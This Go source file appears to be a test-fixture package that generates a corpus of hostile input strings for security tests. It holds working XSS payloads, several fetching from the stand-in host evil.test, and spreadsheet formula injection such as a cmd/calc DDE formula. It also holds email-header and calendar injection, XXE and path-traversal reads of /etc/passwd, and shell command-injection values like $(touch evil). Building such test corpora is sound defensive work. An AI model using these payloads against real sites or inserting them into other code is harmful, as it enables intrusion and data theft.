// Package hostile has texts by which somebody could try to get more than words into a site.
// Tests write them into everything that can be written.
package hostile

import "strings"

// Texts has each way out of where a text stands with each thing to do there, and what other readers
// than browsers would take for something else. Whatever runs calls alert(9), and whatever
// is fetched is fetched from evil.test.
var Texts = func() []string {
	var out []string
	for _, leave := range exits {
		for _, act := range acts {
			out = append(out, leave+act)
		}
	}
	return append(out, others...)
}()

// exits lead out of a text, an attribute, an element, a comment, a script or a template.
var exits = []string{
	"", `">`, `'>`, `"'>`, "`>", `" `, `' `, "x ", `\">`, `&quot;>`, `&#34;&#62;`, "</title>", "</script>", "</style>", "</textarea>", "</noscript>",
	"</svg>", "</p></main>", "</td></table>", "-->", "]]>", "*/ ", "}}", `"}],"x":"`,
}

// acts run a script, fetch something or change the page.
var acts = []string{
	"<script>alert(9)</script>", "<ScRiPt/x>alert(9)//", "<script src=//evil.test/x></script>", "<img src=x onerror=alert(9)>",
	"<svg onload=alert(9)>", "<svg><animate onbegin=alert(9) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(9)>x",
	`<iframe srcdoc="<script>parent.alert(9)</script>">`, "<iframe src=javascript:parent.alert(9)>", `<a href="javascript:alert(9)">x</a>`,
	`autofocus tabindex=0 onfocus=alert(9) x="`, `onmouseover=alert(9) x='`, "<body onload=alert(9)>", "<details open ontoggle=alert(9)>x",
	"<input autofocus onfocus=alert(9)>", "<video><source onerror=alert(9)>", `<link rel=stylesheet href=//evil.test/x>`,
	`<meta http-equiv=refresh content="0;url=//evil.test/">`, "<base href=//evil.test/>", "<style>@import '//evil.test/x';</style>",
	`<p style="background:url(//evil.test/x)">`, "<form action=//evil.test/><button>x", "<object data=//evil.test/x>",
	"<!--", "<plaintext>", "<template>",
}

// others are for templates, scripts, addresses, spreadsheets, mails, calendars,
// feeds, files, shells and the eye.
var others = append(strings.Split(strings.TrimSpace(`
{{.}}
{{template "base" .}}
{{"x" | printf "%s"}}
${alert(9)}
#{7*7}
<%= 7*7 %>
%s%n%x
javascript:alert(9)
JaVaScRiPt:alert(9)//
data:text/html,<script>alert(9)</script>
vbscript:msgbox(9)
//evil.test/x
https://evil.test/x
\\evil.test\x
file:///etc/passwd
=1+1
=HYPERLINK("https://evil.test/","x")
=cmd|' /C calc'!A0
+1+1
-1+1
@SUM(1,1)
;=1+1
",=1+1,"
"";=1+1
Bcc: all@evil.test
\r\nBcc: all@evil.test
%0d%0aBcc:%20all@evil.test
=?utf-8?q?=0D=0ABcc:_all=40evil.test?=
=0D=0ABcc: all@evil.test
--parvis-boundary--
From evil.test
<all@evil.test>
"x" <all@evil.test>, y
x, y; z: q
\nEND:VEVENT\nBEGIN:VEVENT
END:VCALENDAR
;VALUE=URI:https://evil.test/
\,\;\\
ATTENDEE:mailto:all@evil.test
]]><entry><id>x</id></entry>
&xxe;
&lt;script&gt;alert(9)&lt;/script&gt;
&#x3c;script&#x3e;alert(9)&#x3c;/script&#x3e;
<!ENTITY xxe SYSTEM "file:///etc/passwd">
<?xml version="1.0"?>
<?php echo 7*7 ?>
<![CDATA[<x>]]>
\u003cscript\u003ealert(9)\u003c/script\u003e
\x3cscript\x3ealert(9)\x3c/script\x3e
%3Cscript%3Ealert(9)%3C/script%3E
<\/script><script>alert(9)</script>
{"__proto__":{"x":1}}
__proto__
constructor
"]}</script><script>alert(9)</script>
';alert(9);'
";alert(9);"
/*alert(9)*/
) /S /JavaScript /JS (app.alert(9)) (
endobj
../../../../etc/passwd
..\..\x
con.txt
$(touch evil)
;touch evil;
|touch evil
*x* _y_ **z** ~~q~~
[x](javascript:alert(9))
![x](https://evil.test/x)
[x]: javascript:alert(9)
# x
> x
1. x
- - -
&amp;amp;
&amp
&
<
>
"
'
<x
x>
< script>alert(9)</ script>
＜script＞alert(9)＜/script＞
“><script>alert(9)</script>
`), "\n"),
	"`touch evil`", "`x", "a\u200bb\u200c\u200dc", "\u202ex\u202c", "\u2067x\u2069", "שלום x", "مرحبا", "e\u0301\u0301\u0301\u0301",
	"👩‍👩‍👧‍👦🇫🇷", "ﬀ İ ẞ ſ K",
	strings.Repeat("W", 120), strings.Repeat("a-", 60), strings.Repeat("<", 60), strings.Repeat("&", 60), "x\u00a0y\u202fz\u2003q", "\ufeffx", "\U000e0041x")

// Harmless is a text of the same length and the same words, of letters and figures alone.
func Harmless(text string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r == ' ' || r >= 'a' && r <= 'z' || r >= '0' && r <= '9' || r >= 'A' && r <= 'Z':
			return r
		}
		return 'x'
	}, text)
}

// Formulas are what a spreadsheet would run, were it the beginning of a cell.
var Formulas = []string{"=1+1", "+1+1", "-1+1", "@SUM(1,1)", `=HYPERLINK("https://evil.test/","x")`, "'=1+1", "＝1+1"}

// Constructs are forms of Markdown in which a text can stand, at “@”.
var Constructs = []string{
	"@", "I say @ here.", "*@*", "**@**", "~~@~~", "`@`", "# @", "## A @ b", "- @\n- [ ] @", "1. @", "> @", "| @ | b |\n| --- | --- |\n| a | @ |",
	"[@](https://e.example/)", "[a](@)", "[a](<@>)", "[a](https://e.example/ \"@\")", "[a](https://e.example/@)", "![@](stop.jpg)", "![a](@)",
	"![a](stop.jpg \"@\")", "[a]: @\n\n[a]", "[a]: https://e.example/ '@'\n\n[a]",
	"[@]: https://e.example/\n\n[@]", "<@>", "<https://e.example/@>",
	"```\n@\n```", "```@\na\n```", "    @", "a[^1]\n\n[^1]: @", "a  \n@", "a\\\n@", "[@](figure:cost/2026)", "[a](figure:@)", "www.e.example/@", "\\@",
	"&@;", "@\n===", "**a @** b *@", "[![@](stop.jpg)](@)",
}

// In is a construct that holds a text.
func In(construct, text string) string { return strings.ReplaceAll(construct, "@", text) }
